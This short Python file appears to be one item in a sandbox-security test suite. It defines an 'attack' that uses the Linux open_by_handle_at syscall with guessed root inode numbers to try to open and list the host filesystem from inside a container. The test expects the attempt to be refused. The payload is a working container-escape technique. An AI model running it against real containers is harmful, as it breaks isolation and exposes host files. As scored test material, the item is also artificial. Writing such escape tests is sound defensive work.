from attack import Attack

# a handle names a file by its number on the disk, wherever the sandbox's root is
_OPEN = """
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
for place in ("/usr", "/box", "/"):
    root = os.open(place, os.O_RDONLY)
    for number in (2, 128, 256):  # the root of ext4, xfs, btrfs
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, number, 0))
        opened = libc.syscall(304, root, handle, os.O_RDONLY)
        if opened >= 0:
            print("the-attack-succeeded", os.listdir(opened))
assert ctypes.get_errno() != 1, "not permitted"
"""
ATTACK = Attack(
    "to open files by their number on the disk",
    figure=_OPEN,
    points={"pick": 2.0},
    reason="not permitted",
)
